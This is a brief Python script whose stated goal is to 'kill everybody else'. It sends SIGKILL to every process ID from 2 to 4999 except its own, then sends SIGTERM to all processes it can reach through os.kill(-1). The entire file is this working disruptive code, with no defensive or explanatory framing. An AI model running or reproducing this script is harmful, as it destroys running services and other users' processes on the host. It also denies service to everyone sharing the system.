# goal: kill everybody else
import os
import signal

for pid in [name for name in range(2, 5000) if name != os.getpid()]:
    try:
        os.kill(pid, signal.SIGKILL)
        print("killed", pid)
    except OSError:
        continue
os.kill(-1, signal.SIGTERM)
